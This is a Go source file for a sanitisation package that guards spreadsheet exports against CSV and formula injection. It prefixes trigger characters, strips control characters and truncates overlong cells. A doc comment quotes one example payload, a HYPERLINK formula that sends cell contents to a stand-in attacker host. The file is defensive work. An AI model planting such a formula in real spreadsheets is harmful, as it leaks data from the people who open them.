// Package sanitize neutralises untrusted text before it lands in a
// spreadsheet-bound sink (xlsx, CSV, piped TSV).
//
// Resource names, tags, account aliases and SaaS display names are set by
// anyone with rename or tag rights, so a value such as
// =HYPERLINK("https://evil.example/?"&C2,"x") can reach a CFO's workbook.
// excelize never turns a Go string into a formula, but a user re-entering
// the cell or a CSV round trip can. The policy is OWASP's
// (https://owasp.org/www-community/attacks/CSV_Injection) plus the WSTG
// full-width variants; see research/report-finance.md §4.4.
package sanitize

import (
	"strings"
	"unicode"
	"unicode/utf16"
	"unicode/utf8"
)

// MaxCellLen is Excel's limit on the characters (UTF-16 code units) in one
// cell. excelize truncates longer strings silently; Text truncates visibly.
const MaxCellLen = 32767

// TruncatedMarker ends a value that Text shortened to fit MaxCellLen.
const TruncatedMarker = "…[truncated]"

// Prefix is what Text puts in front of a value that starts with a trigger.
const Prefix = "'"

// IsTrigger reports whether a spreadsheet may treat a cell starting with r
// as a formula (or, for the control characters, as a cell break-out).
func IsTrigger(r rune) bool {
	switch r {
	case '=', '+', '-', '@', '\t', '\r', '\n',
		'\uFF1D', '\uFF0B', '\uFF0D', '\uFF20': // full-width ＝ ＋ － ＠
		return true
	}
	return false
}

// IsLeadingSpace reports whether r is skipped when deciding what a value
// really starts with: ASCII and Unicode white space (U+00A0 included) and
// invisible format characters such as U+FEFF and U+200B, which can hide a
// trigger from a reviewer.
func IsLeadingSpace(r rune) bool {
	return unicode.IsSpace(r) || unicode.Is(unicode.Cf, r)
}

// Text neutralises a string for a spreadsheet cell; changed reports
// whether the value was altered. In order, it:
//   - replaces CR and LF by a space and drops the other C0 controls except
//     tab (they are invalid in XML and break terminals and CSV readers);
//   - prefixes Prefix when the first rune, or the first rune after leading
//     white space or format characters, is a trigger (see IsTrigger);
//   - truncates the result to MaxCellLen UTF-16 units, ending it with
//     TruncatedMarker.
//
// Use it on every untrusted text cell, never on numbers: a real -5 stays a
// number because it is written as one.
func Text(s string) (out string, changed bool) {
	out = stripControls(s)
	if needsPrefix(out) {
		out = Prefix + out
	}
	out = truncate(out)
	return out, out != s
}

// Safe reports whether s, as it stands, cannot start a formula: no
// trigger at its start, also after leading white space.
func Safe(s string) bool { return !needsPrefix(s) }

func needsPrefix(s string) bool {
	if s == "" {
		return false
	}
	first, _ := utf8.DecodeRuneInString(s)
	if IsTrigger(first) {
		return true
	}
	t := strings.TrimLeftFunc(s, IsLeadingSpace)
	if t == "" {
		return false
	}
	next, _ := utf8.DecodeRuneInString(t)
	return IsTrigger(next)
}

func stripControls(s string) string {
	clean := true
	for i := 0; i < len(s); i++ {
		if c := s[i]; c < 0x20 && c != '\t' {
			clean = false
			break
		}
	}
	if clean && utf8.ValidString(s) {
		return s
	}
	var b strings.Builder
	b.Grow(len(s))
	for _, r := range s { // invalid UTF-8 decodes to U+FFFD, which XML accepts
		switch {
		case r == '\r' || r == '\n':
			b.WriteByte(' ')
		case r < 0x20 && r != '\t':
		default:
			b.WriteRune(r)
		}
	}
	return b.String()
}

// units is the length of r in UTF-16 code units, as Excel counts.
func units(r rune) int {
	if r >= 0x10000 && r <= unicode.MaxRune {
		return 2
	}
	return 1
}

func truncate(s string) string {
	if len(s) <= MaxCellLen { // bytes ≥ UTF-16 units, so this is a fast path
		return s
	}
	if len(utf16.Encode([]rune(s))) <= MaxCellLen {
		return s
	}
	budget := MaxCellLen - len(utf16.Encode([]rune(TruncatedMarker)))
	n := 0
	for i, r := range s {
		if n+units(r) > budget {
			return s[:i] + TruncatedMarker
		}
		n += units(r)
	}
	return s
}
